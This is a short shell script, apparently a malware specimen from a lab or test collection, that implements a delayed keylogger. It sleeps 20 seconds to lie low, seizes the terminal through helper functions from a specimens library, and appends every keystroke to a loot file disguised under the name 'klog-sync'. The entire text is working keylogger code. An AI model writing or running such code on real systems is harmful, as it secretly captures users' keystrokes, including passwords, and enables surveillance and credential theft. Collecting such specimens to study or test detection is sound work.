# Keylogger that lies low first: 20 s after start it logs every key to the data disk, as klog-sync.
. /etc/enmei/specimens/lib.sh
sleep 20
log_key() { printf '%s' "${1:-|}" >> "$LOOT"; sync; }
take_tty
each_key log_key
